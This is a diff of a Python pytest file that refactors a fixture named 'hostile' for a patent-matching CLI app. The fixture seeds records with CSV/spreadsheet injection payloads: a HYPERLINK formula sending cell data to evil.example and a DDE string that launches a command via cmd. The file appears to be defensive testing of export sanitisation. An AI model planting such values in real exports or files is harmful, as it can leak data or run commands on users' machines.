@@ -12,12 +12,11 @@ import pytest
 from typer.testing import CliRunner
 
 from api.cli.app import app
-from matcher import usecases
 from matcher.domain import Assessment, Prospect, Transaction, TransactionKind
 from matcher.events import Event
 from matcher.settings import Settings
 from matcher.workspace import Workspace
-from tests.api.conftest import BEARING, ENTERPRISE, MEMBRANE, NEEDS, NOW
+from tests.api.conftest import BEARING, ENTERPRISE, MEMBRANE, NEEDS, overwrite
 
 EVIL = '=HYPERLINK("http://evil.example/"&A1,"点我")'
 DDE = "@SUM(1)*cmd|'/C calc'!A0"
@@ -59,14 +58,9 @@ def hostile(filled: Settings) -> Settings:
     firm = replace(ENTERPRISE, name=DDE, focus_areas=(EVIL,), contact=EVIL)
     said = Assessment("P1", MEMBRANE.id, ENTERPRISE.id, DDE, Prospect.GOOD, EVIL, on=date(2026, 5, 2))
     deal = Transaction("T1", MEMBRANE.id, TransactionKind.ORDINARY_LICENCE, date(2026, 1, 2), EVIL, DDE)
+    overwrite(filled, patent, need, firm, said, deal, replace(BEARING, id="CN2", title=DDE))
     with Workspace.open(filled) as workspace:
-        store, day = workspace.store, NOW.date()
-        store.edits.replace(MEMBRANE, patent, day)
-        store.edits.replace(NEEDS[0], need, day)
-        store.edits.replace(ENTERPRISE, firm, day)
-        store.merge([said, deal, replace(BEARING, id="CN2", title=DDE)], day)
-        store.roadshows.add(Event("HD001", EVIL, date(2026, 9, 1), place=DDE, organiser=EVIL))
-        usecases.build_index(workspace, NOW)
+        workspace.store.roadshows.add(Event("HD001", EVIL, date(2026, 9, 1), place=DDE, organiser=EVIL))
     return filled
 
 
